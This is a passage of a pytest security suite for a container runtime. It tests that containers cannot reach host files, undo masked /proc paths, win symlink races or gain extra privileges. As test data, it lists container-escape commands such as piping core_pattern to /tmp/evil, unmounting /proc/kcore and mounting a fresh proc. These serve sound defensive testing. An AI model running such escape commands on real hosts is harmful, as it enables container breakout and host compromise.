        assert lines["fds"].split() == ["0", "1", "2"], out.stdout


def test_created_init_holds_no_host_directory_fd(ocirt, make_bundle, tool_rootfs):
    """What a container could reach through /proc/1/fd if it ever got in (see above):
    while `created`, the init holds no directory and nothing of the host filesystem
    but the exec fifos of its state dir; its cwd and root are the container's."""
    cid = new_id()
    ocirt("create", "--bundle", make_bundle(["true"], rootfs=tool_rootfs), cid)
    try:
        pid = ocirt.state(cid)["pid"]
        for fd in os.listdir(f"/proc/{pid}/fd"):
            path = f"/proc/{pid}/fd/{fd}"
            assert not stat.S_ISDIR(os.stat(path).st_mode), os.readlink(path)
            target = os.readlink(path)
            if int(fd) > 2 and target.startswith("/"):
                assert os.path.dirname(target) == os.path.join(ocirt.root, cid), target
        assert os.readlink(f"/proc/{pid}/root") == "/"  # as seen from the host: its own root
        assert os.path.samefile(f"/proc/{pid}/root", tool_rootfs)
        assert os.path.samefile(f"/proc/{pid}/cwd", tool_rootfs)
    finally:
        ocirt("delete", "--force", cid)


# ================================================================ mount destination races

@pytest.fixture
def race(tmp_path, busybox_rootfs, sectool, host_mount):  # noqa: F811
    """A writable rootfs shared by two containers, with /race (a directory holding
    dir/ of mode 0777 and devdir/) and /race.swap (a symlink to a host directory with
    the same entries, dir/ of mode 0700): the swapper container exchanges the two
    names in a loop while ocirt creates containers that mount at /race/dir and
    create a device in /race/devdir."""
    rootfs = tmp_path / "race-rootfs"
    shutil.copytree(busybox_rootfs, rootfs, symlinks=True)
    shutil.copy(sectool, rootfs / "bin" / "sectool")
    (rootfs / "race" / "dir").mkdir(parents=True)
    (rootfs / "race" / "dir").chmod(0o777)
    (rootfs / "race" / "devdir").mkdir()
    victim = tmp_path / "victim"
    (victim / "dir").mkdir(parents=True)
    (victim / "dir").chmod(0o700)
    (victim / "devdir").mkdir()
    os.symlink(str(victim), rootfs / "race.swap")
    return {"rootfs": str(rootfs), "victim": victim, "host_mount": host_mount}


def victim_damage(victim):
    found = []
    mode = stat.S_IMODE(os.lstat(victim / "dir").st_mode)
    if mode != 0o700:
        found.append(f"host dir {victim / 'dir'} chmod'ed to {mode:o}")
    if os.listdir(victim / "devdir"):
        found.append(f"device nodes created in host dir {victim / 'devdir'}: {os.listdir(victim / 'devdir')}")
    mounts = [p for p in host_mounts_under(victim) if p != str(victim)]
    if mounts:
        found.append(f"mounted on the host: {mounts}")
    return found


@pytest.mark.parametrize("propagation", [None, "shared"])
def test_mount_destination_swapped_for_a_symlink_stays_in_the_rootfs(ocirt, make_bundle, race, propagation):
    """CVE-2023-27561 class, as a race: a second container keeps exchanging /race (a
    directory) with /race.swap (a symlink to a host directory) in the rootfs it shares
    with the containers ocirt creates meanwhile, which mount a tmpfs at /race/dir
    (without mode=, so ocirt copies the directory's mode) and create a device at
    /race/devdir/null. With rootfsPropagation shared and the host directory a shared
    mount, a mount that escaped would also show on the host. After up to 40 creates,
    the host directory must be untouched: same mode, no device node, nothing mounted."""
    rootfs, victim = race["rootfs"], race["victim"]
    if propagation == "shared":
        race["host_mount"]("--bind", victim, victim)
        race["host_mount"]("--make-shared", victim)
    swapper = new_id("swap")

    def swapper_edit(config):
        config["root"] = {"path": rootfs, "readonly": False}
        config["hostname"] = "swapper"
    ocirt("run", "-d", "--bundle", make_bundle(["sectool", "swap", "/race", "/race.swap", "60"], edit=swapper_edit),
          swapper)

    def victim_edit(config):
        config["root"] = {"path": rootfs, "readonly": True}
        config["mounts"].append({"destination": "/race/dir", "type": "tmpfs", "source": "tmpfs",
                                 "options": ["size=1m"]})
        config["linux"]["devices"] = [{"path": "/race/devdir/null", "type": "c", "major": 1, "minor": 3,
                                       "fileMode": 0o666}]
        if propagation:
            config["linux"]["rootfsPropagation"] = propagation
    bundle = make_bundle(["true"], edit=victim_edit)
    damage, created, errors = [], 0, []
    try:
        for attempt in range(40):
            out = ocirt("run", "--bundle", bundle, new_id(), check=False)
            if out.returncode == 0:
                created += 1
            else:
                errors.append(out.stderr.strip().splitlines()[-1] if out.stderr.strip() else out.returncode)
            damage = victim_damage(victim)
            if damage:
                break
    finally:
        ocirt("delete", "--force", swapper)
        umount_all_under(victim)
    assert not damage, f"after {attempt + 1} creates: {damage}"
    assert created > 0, f"no create succeeded during the race: {errors[:5]}"
    for error in errors:
        assert "internal error" not in str(error) and "Traceback" not in str(error), error


# ================================================================ masked and read-only paths

EPERM = ("Operation not permitted", "permission denied")  # umount's and busybox mount's words for it
EROFS = ("Read-only file system",)
ESCAPES = [
    # (what, shell command, the refusal on stderr, a host path the attempt needs)
    ("umount-kcore", "umount /proc/kcore", EPERM, "/proc/kcore"),
    ("umount-keys", "umount /proc/keys", EPERM, "/proc/keys"),
    ("umount-lazy-timer-list", "umount -l /proc/timer_list", EPERM, "/proc/timer_list"),
    ("umount-firmware", "umount /sys/firmware", EPERM, "/sys/firmware"),
    ("umount-acpi", "umount /proc/acpi", EPERM, "/proc/acpi"),
    ("umount-proc-sys", "umount /proc/sys", EPERM, "/proc/sys"),
    ("remount-proc-sys-rw", "mount -o remount,rw /proc/sys", EPERM, "/proc/sys"),
    ("remount-proc-sys-rw-bind", "mount -o remount,bind,rw /proc/sys", EPERM, "/proc/sys"),
    ("remount-sysrq-trigger-rw", "mount -o remount,rw /proc/sysrq-trigger", EPERM, "/proc/sysrq-trigger"),
    ("remount-proc-bus-rw", "mount -o remount,rw /proc/bus", EPERM, "/proc/bus"),
    ("remount-proc-irq-rw", "mount -o remount,rw /proc/irq", EPERM, "/proc/irq"),
    ("fresh-proc", "mount -t proc proc /tmp", EPERM, None),  # a fresh proc would show everything
    ("fresh-sysfs", "mount -t sysfs sysfs /tmp", EPERM, None),
    ("bind-proc", "mount --bind /proc /tmp", EPERM, None),
    ("move-keys-mask", "mount --move /proc/keys /tmp", EPERM, "/proc/keys"),
    ("write-core-pattern", "echo '|/tmp/evil' > /proc/sys/kernel/core_pattern", EROFS, None),
    ("write-drop-caches", "echo 3 > /proc/sys/vm/drop_caches", EROFS, None),
    ("write-sysrq", "echo 1 > /proc/sys/kernel/sysrq", EROFS, "/proc/sys/kernel/sysrq"),
    ("write-sysrq-trigger", "echo h > /proc/sysrq-trigger", EROFS, "/proc/sysrq-trigger"),
    ("write-masked-dir", "touch /proc/acpi/x", EROFS, "/proc/acpi"),
    ("write-firmware", "touch /sys/firmware/x", EROFS, "/sys/firmware"),
]

MASK_CHECK = ("echo \"keys $(wc -c < /proc/keys)\"; echo \"timer $(wc -c < /proc/timer_list)\"; "
              "echo \"firmware $(ls -A /sys/firmware | wc -l)\"; echo \"acpi $(ls -A /proc/acpi | wc -l)\"; "
              "echo \"kcore $(cat /proc/kcore 2>/dev/null | wc -c)\"; "
              "echo \"core $(cat /proc/sys/kernel/core_pattern)\"; "
              "echo \"rosys $(grep -c ' /proc/sys ro,' /proc/self/mountinfo)\"")


@pytest.mark.parametrize("what, command, refusal, needs", ESCAPES, ids=[e[0] for e in ESCAPES])
def test_masked_and_readonly_paths_cannot_be_undone(ocirt, make_bundle, what, command, refusal, needs):
    """As root with the busybox bundle's capabilities (no CAP_SYS_ADMIN): each attempt
    fails with the kernel's refusal, and afterwards the masks are still in place."""
    if needs and not os.path.exists(needs):
        pytest.skip(f"this host has no {needs}")
    with open("/proc/sys/kernel/core_pattern") as f:
        core_pattern = f.read().strip()
    out = sh(ocirt, make_bundle(["sh", "-c", f"{command}; echo \"rc $?\"; {MASK_CHECK}"]))
    lines = out.stdout.splitlines()
    assert lines[0] != "rc 0", out
    assert any(r in out.stderr for r in refusal), out.stderr
    assert lines[1:] == ["keys 0", "timer 0", "firmware 0", "acpi 0", "kcore 0", f"core {core_pattern}",
                         "rosys 1"], out.stdout
    with open("/proc/sys/kernel/core_pattern") as f:
        assert f.read().strip() == core_pattern


def test_fresh_proc_mount_needs_cap_sys_admin(ocirt, make_bundle):
    """Calibration of the escapes above: with CAP_SYS_ADMIN (never in a default set) a
    fresh proc does expose what was masked, so it is the capability that protects."""
    script = "mount -t proc proc /tmp && echo \"keys-mounted $(wc -c < /tmp/keys)\"; umount /proc/keys && echo unmasked"
    out = sh(ocirt, make_bundle(["sh", "-c", script],
                                edit=set_process(capabilities=caps(*BUSYBOX_CAPS, "CAP_SYS_ADMIN"))))
    assert "keys-mounted" in out.stdout and "unmasked" in out.stdout, out


def test_mask_refuses_a_dev_null_that_is_not_the_null_device(ocirt, make_bundle, tmp_path):
    """Masks are /dev/null bound over a file. When the container's /dev/null is
    something else, e.g. a link to /proc/sys/kernel/core_pattern put there by the
    image or by another container (runc's CVE-2025-31133), binding it would expose
    that file where a mask should be: create fails instead."""
    fake_dev = tmp_path / "fake-dev"
    fake_dev.mkdir()
    os.symlink("/proc/sys/kernel/core_pattern", fake_dev / "null")

    def edit(config):
        config["mounts"] = [m for m in config["mounts"] if not m["destination"].startswith("/dev")]
        config["mounts"].append({"destination": "/dev", "type": "bind", "source": str(fake_dev),
                                 "options": ["rbind"]})
        config["linux"]["maskedPaths"] = ["/proc/keys"]
    out = sh(ocirt, make_bundle(["true"], edit=edit), expect_rc=None)
    assert out.returncode != 0
    assert out.stderr.strip().splitlines()[-1].endswith(
        "masking /proc/keys: /dev/null in the container is not the null device"), out.stderr
    assert not os.listdir(ocirt.root)


def test_masked_and_readonly_paths_in_a_container_without_proc(ocirt, make_bundle, tmp_path):
    """Masks and read-only paths are made through /proc/self/fd once the root is the
    container's; without a /proc there, they still hold."""
    secret = tmp_path / "secret"
    secret.write_text("host secret\n")

    def edit(config):
        config["mounts"] = [m for m in config["mounts"] if m["type"] not in ("proc", "sysfs", "cgroup")]
        config["mounts"] += [{"destination": "/secret", "type": "bind", "source": str(secret), "options": ["bind"]},
                             {"destination": "/tmp", "type": "tmpfs", "source": "tmpfs"}]
        config["linux"]["maskedPaths"] = ["/secret", "/etc"]
        config["linux"]["readonlyPaths"] = ["/tmp"]
    script = ('echo "secret $(wc -c < /secret)"; echo "etc $(ls -A /etc | wc -l)"; '
              'touch /tmp/x 2>/dev/null; echo "tmp $?"; echo "proc $(ls -A /proc | wc -l)"')
    out = sh(ocirt, make_bundle(["sh", "-c", script], edit=edit))
    assert out.stdout.split("\n")[:4] == ["secret 0", "etc 0", "tmp 1", "proc 0"], out.stdout


# ================================================================ capabilities and privileges

@pytest.fixture
def suid_rootfs(tmp_path, busybox_rootfs, sectool):
    """A private rootfs with /bin/suid-sectool (setuid root), /bin/fcap-sectool (file
    capability CAP_NET_RAW, permitted) and /bin/dumb-sectool (CAP_SYS_ADMIN, permitted
    and effective: a "capability-dumb" binary)."""
    rootfs = tmp_path / "suid-rootfs"
    shutil.copytree(busybox_rootfs, rootfs, symlinks=True)
    suid = rootfs / "bin" / "suid-sectool"
    shutil.copy(sectool, suid)
    os.chown(suid, 0, 0)
    os.chmod(suid, 0o4755)
    for name, wanted, effective in (("fcap-sectool", cap_mask("CAP_NET_RAW"), 0),
                                    ("dumb-sectool", cap_mask("CAP_SYS_ADMIN"), 1)):
        path = rootfs / "bin" / name
        shutil.copy(sectool, path)
        # struct vfs_cap_data, revision 2 (+ the effective flag)
        os.setxattr(path, "security.capability",
                    struct.pack("<IIIII", 0x02000000 | effective, wanted & 0xFFFFFFFF, 0, wanted >> 32, 0))
    return str(rootfs)


def ids_of(text):
    lines = dict(line.split(None, 1) for line in text.splitlines() if line)
    uid, euid = lines["uid"].split()[0], lines["uid"].split()[2]
    return int(uid), int(euid), int(lines["CapPrm:"], 16), int(lines["CapEff:"], 16)


@pytest.mark.parametrize("nnp", [True, False])
def test_setuid_binary_and_no_new_privileges(ocirt, make_bundle, suid_rootfs, nnp):
    """uid 1000 runs a setuid-root binary: with noNewPrivileges it stays uid 1000 with no
    capability; without, it becomes euid 0, but its capabilities are capped by the
    bounding set (the busybox bundle's three), so root is still not all-powerful."""
    bundle = make_bundle(["suid-sectool", "ids"], rootfs=suid_rootfs,
                         edit=set_process(user={"uid": 1000, "gid": 1000}, noNewPrivileges=nnp))
    uid, euid, prm, eff = ids_of(sh(ocirt, bundle).stdout)
    assert uid == 1000
    if nnp:
        assert (euid, prm, eff) == (1000, 0, 0)
    else:
        assert euid == 0
        assert prm == eff == cap_mask(*BUSYBOX_CAPS)


@pytest.mark.parametrize("nnp, bounding, expect", [
    (True, BUSYBOX_CAPS + ["CAP_NET_RAW"], []),                   # no_new_privs: file caps ignored
    (False, BUSYBOX_CAPS, []),                                    # not in the bounding set
    (False, BUSYBOX_CAPS + ["CAP_NET_RAW"], ["CAP_NET_RAW"]),     # calibration: what the bounding set allows
])
def test_file_capabilities_are_limited_by_bounding_set_and_nnp(ocirt, make_bundle, suid_rootfs, nnp, bounding,
                                                               expect):
    def edit(config):
        config["process"].update(user={"uid": 1000, "gid": 1000}, noNewPrivileges=nnp)
        config["process"]["capabilities"] = {"bounding": bounding, "effective": [], "permitted": []}
    uid, euid, prm, eff = ids_of(sh(ocirt, make_bundle(["fcap-sectool", "ids"], rootfs=suid_rootfs, edit=edit)).stdout)
    assert (uid, euid, prm, eff) == (1000, 1000, cap_mask(*expect), 0)


def test_capability_dumb_binary_beyond_the_bounding_set_does_not_run(ocirt, make_bundle, suid_rootfs):
    """A binary whose file capabilities (effective) ask for CAP_SYS_ADMIN, outside the
    bounding set: the kernel refuses to run it at all rather than run it with less."""
    def edit(config):
        config["process"].update(user={"uid": 1000, "gid": 1000}, noNewPrivileges=False)
    out = sh(ocirt, make_bundle(["sh", "-c", "dumb-sectool ids; echo rc $?"], rootfs=suid_rootfs, edit=edit))
    assert out.stdout.splitlines()[-1] != "rc 0" and "Operation not permitted" in out.stderr, out
    assert "uid" not in out.stdout


@pytest.mark.parametrize("granted", [False, True])
def test_mount_needs_cap_sys_admin(ocirt, make_bundle, granted):
    extra = ["CAP_SYS_ADMIN"] if granted else []
    out = sh(ocirt, make_bundle(["sh", "-c", "mount -t tmpfs tmpfs /tmp && grep -c ' /tmp ' /proc/self/mounts"],
                                edit=set_process(capabilities=caps(*BUSYBOX_CAPS, *extra))), expect_rc=None)
    if granted:
        assert out.returncode == 0 and out.stdout == "1\n", out
    else:
        assert out.returncode != 0 and any(r in out.stderr for r in EPERM), out


@pytest.mark.parametrize("granted", [False, True])
def test_raw_socket_needs_cap_net_raw(ocirt, make_bundle, tool_rootfs, granted):
    """A raw socket, and busybox ping (which needs one: ping sockets are off in a new
    network namespace), are refused without CAP_NET_RAW. (With it, ping gets as far as
    the routing table: the namespace's loopback is down.)"""
    extra = ["CAP_NET_RAW"] if granted else []
    bundle = make_bundle(["sh", "-c", "sectool rawsock; ping -c 1 -W 1 127.0.0.1 >/dev/null"],
                         rootfs=tool_rootfs, edit=set_process(capabilities=caps(*BUSYBOX_CAPS, *extra)))
    out = sh(ocirt, bundle, expect_rc=1)
    if granted:
        assert out.stdout == "rawsock ok\n" and "permission denied" not in out.stderr, out
    else:
        assert out.stdout == "rawsock EPERM\n" and "ping: permission denied" in out.stderr, out


@pytest.mark.parametrize("granted", [False, True])
def test_mknod_needs_cap_mknod(ocirt, make_bundle, granted):
    extra = ["CAP_MKNOD"] if granted else []
    out = sh(ocirt, make_bundle(["sh", "-c", "mknod /dev/x c 1 3 && stat -c %t:%T /dev/x"],
                                edit=set_process(capabilities=caps(*BUSYBOX_CAPS, *extra))), expect_rc=None)
    if granted:
        assert out.returncode == 0 and out.stdout == "1:3\n", out
    else:
        assert out.returncode != 0 and "Operation not permitted" in out.stderr, out


def test_root_without_dac_caps_cannot_use_other_users_files(ocirt, make_bundle, tmp_path):
    """uid 0 is not enough: without CAP_DAC_OVERRIDE, CAP_CHOWN and CAP_FOWNER (none in
    the busybox bundle), root cannot read or write a 0600 file of uid 1000, nor take
    it over. The file is made by a process that had CAP_CHOWN."""
    cid = new_id()
    ocirt("run", "-d", "--bundle", make_bundle(["sleep", "100"],
                                               edit=set_process(capabilities=caps(*BUSYBOX_CAPS, "CAP_CHOWN"))), cid)
    try:
        setup = ocirt("exec", cid, "sh", "-c", "echo secret > /dev/shm/f && chmod 600 /dev/shm/f && "
                                               "chown 1000 /dev/shm/f && echo ok")
        assert setup.stdout == "ok\n"
        process = {"args": ["sh", "-c", "cat /dev/shm/f; echo read $?; echo x >> /dev/shm/f; echo write $?; "
                                        "chown 0 /dev/shm/f; echo chown $?; chmod 666 /dev/shm/f; echo chmod $?; "
                                        "id -u"],
                   "cwd": "/", "user": {"uid": 0, "gid": 0}, "env": ["PATH=/usr/sbin:/usr/bin:/sbin:/bin"],
                   "capabilities": caps(*BUSYBOX_CAPS), "noNewPrivileges": True}
        path = tmp_path / "process.json"
        path.write_text(json.dumps(process))
        attempt = ocirt("exec", "--process", path, cid, check=False)
        assert attempt.stdout.splitlines() == ["read 1", "write 1", "chown 1", "chmod 1", "0"], attempt
        assert "Permission denied" in attempt.stderr and "Operation not permitted" in attempt.stderr
        check = ocirt("exec", cid, "stat", "-c", "%u %a %s", "/dev/shm/f")
        assert check.stdout == "1000 600 7\n"
    finally:
        ocirt("delete", "--force", cid)


# ================================================================ AppArmor / SELinux (no LSM here)

@pytest.mark.parametrize("field, value, message", [
    ("apparmorProfile", "docker-default", "AppArmor is not enabled on this host"),
    ("selinuxLabel", "system_u:system_r:container_t:s0:c1,c2", "SELinux is not enabled on this host"),
])
def test_lsm_process_label_is_refused_at_create(ocirt, make_bundle, field, value, message):
    """A profile or label is a promise of confinement this host cannot keep: create
    fails before anything is built, naming the field."""
    cid = new_id()
    out = ocirt("create", "--bundle", make_bundle(["true"], edit=set_process(**{field: value})), cid, check=False)
    assert out.returncode != 0
    assert message in out.stderr and f"process.{field}" in out.stderr, out.stderr
    assert not os.path.exists(os.path.join(ocirt.root, cid))
    assert ocirt("state", cid, check=False).returncode != 0


def test_mount_label_is_ignored_with_a_warning(ocirt, make_bundle):
    """linux.mountLabel only annotates files; as crun does, it is ignored with a warning."""
    def edit(config):
        config["linux"]["mountLabel"] = "system_u:object_r:container_file_t:s0:c1,c2"
    out = ocirt("run", "--bundle", make_bundle(["sh", "-c", "echo ran"], edit=edit), new_id(), check=False)
    assert out.returncode == 0 and out.stdout == "ran\n", out
    assert "linux.mountLabel ignored" in out.stderr and "SELinux is not enabled" in out.stderr, out.stderr


@pytest.mark.parametrize("option, message", [
    ("--apparmor=docker-default", "AppArmor is not enabled on this host"),
    ("--process-label=system_u:system_r:container_t:s0", "SELinux is not enabled on this host"),
])
def test_exec_lsm_options_are_refused(ocirt, running, tmp_path, option, message):
    flag, _, value = option.partition("=")
    marker = "/dev/shm/exec-ran"
    out = ocirt("exec", flag, value, running, "touch", marker, check=False)
    assert out.returncode == 255 and message in out.stderr, out
    assert ocirt("exec", running, "sh", "-c", f"test -e {marker} && echo ran || echo not-ran").stdout == "not-ran\n"
    assert json.loads(ocirt("ps", "--format", "json", running).stdout) == [ocirt.state(running)["pid"]]


def test_features_report_no_lsm(ocirt):
    linux = json.loads(ocirt("features").stdout)["linux"]
    assert linux["apparmor"]["enabled"] is False and linux["selinux"]["enabled"] is False


# ================================================================ user namespaces

@pytest.fixture
def host_root_dir(userns_dir):  # noqa: F811
    """A host directory (0755, host root) holding secret (0600) and public (0644), reachable
    by the container's root (host uid 100000) through the 0711 userns_dir."""
    path = tempfile.mkdtemp(dir=userns_dir)
    os.chmod(path, 0o755)
    with open(os.path.join(path, "secret"), "w") as f:
        f.write("host secret\n")
    os.chmod(os.path.join(path, "secret"), 0o600)
    with open(os.path.join(path, "public"), "w") as f:
        f.write("host public\n")
    os.chmod(os.path.join(path, "public"), 0o644)
    yield path
    shutil.rmtree(path)


# What root of a user namespace would need to get at host root's files, all granted.
USERNS_CAPS = BUSYBOX_CAPS + ["CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_FOWNER", "CAP_CHOWN",
                              "CAP_MKNOD", "CAP_SETUID", "CAP_SETGID"]


def userns_edit(userns_dir, host_root_dir):  # noqa: F811
    def edit(config):
        set_namespaces(["pid", "network", "ipc", "uts", "mount", "cgroup", "user"], mappings=True)(config)
        config["root"]["path"] = os.path.join(userns_dir, "rootfs")
        # the mount point exists in that rootfs (made by the userns_dir fixture)
        config["mounts"].append({"destination": "/shared", "type": "bind", "source": host_root_dir,
                                 "options": ["rbind"]})
        config["process"]["capabilities"] = caps(*USERNS_CAPS)
    return edit


def test_userns_root_cannot_use_host_root_files(ocirt, make_bundle, userns_dir, host_root_dir):  # noqa: F811
    """Container root is host uid 100000: even with CAP_DAC_OVERRIDE, CAP_FOWNER and
    CAP_CHOWN in its namespace, files of host root (unmapped, seen as nobody) cannot
    be read when 0600, written, created in, chmod'ed or chown'ed."""
    script = ("id -u; stat -c '%u %a' /shared/secret; cat /shared/public; "
              "cat /shared/secret; echo read $?; echo x >> /shared/public; echo append $?; "
              "touch /shared/new; echo create $?; chmod 666 /shared/secret; echo chmod $?; "
              "chown 0 /shared/secret; echo chown $?; rm -f /shared/public; echo unlink $?")
    out = sh(ocirt, make_bundle(["sh", "-c", script], edit=userns_edit(userns_dir, host_root_dir)))
    lines = out.stdout.splitlines()
    assert lines[:3] == ["0", "65534 600", "host public"], out
    assert lines[3:] == ["read 1", "append 1", "create 1", "chmod 1", "chown 1", "unlink 1"], out
    assert "Permission denied" in out.stderr and "Operation not permitted" in out.stderr
    assert sorted(os.listdir(host_root_dir)) == ["public", "secret"]
    with open(os.path.join(host_root_dir, "public")) as f:
        assert f.read() == "host public\n"
    assert stat.S_IMODE(os.stat(os.path.join(host_root_dir, "secret")).st_mode) == 0o600


def test_userns_devices_are_bind_mounts_and_mknod_fails(ocirt, make_bundle, userns_dir, host_root_dir):  # noqa: F811
    """In a user namespace mknod of a device is refused even with CAP_MKNOD (it needs it in
    the initial namespace): the default devices are bind mounts of the host's nodes,
    and a fifo (no capability needed) shows /dev is writable, so the refusal is the kernel's."""
    script = ("mknod /dev/evil c 1 1; echo mknod $?; mkfifo /dev/fifo; echo mkfifo $?; "
              "awk '$5 ~ /^\\/dev\\/(null|zero|full|random|urandom|tty)$/ {print \"bind\", $5, $4}' /proc/self/mountinfo")
    out = sh(ocirt, make_bundle(["sh", "-c", script], edit=userns_edit(userns_dir, host_root_dir)))
    lines = out.stdout.splitlines()
    assert lines[:2] == ["mknod 1", "mkfifo 0"], out
    binds = {line.split()[1]: line.split()[2] for line in lines[2:]}
    assert binds == {f"/dev/{n}": f"/{n}" for n in ("null", "zero", "full", "random", "urandom", "tty")}, out


def test_userns_root_cannot_mount_over_masked_paths_without_cap_sys_admin(ocirt, make_bundle, userns_dir,
                                                                          host_root_dir):  # noqa: F811
    script = "umount /proc/kcore; echo umount $?; mount -t proc proc /tmp; echo mount $?; wc -c < /proc/keys"
    out = sh(ocirt, make_bundle(["sh", "-c", script], edit=userns_edit(userns_dir, host_root_dir)))
    assert out.stdout.splitlines() == ["umount 1", "mount 1", "0"], out
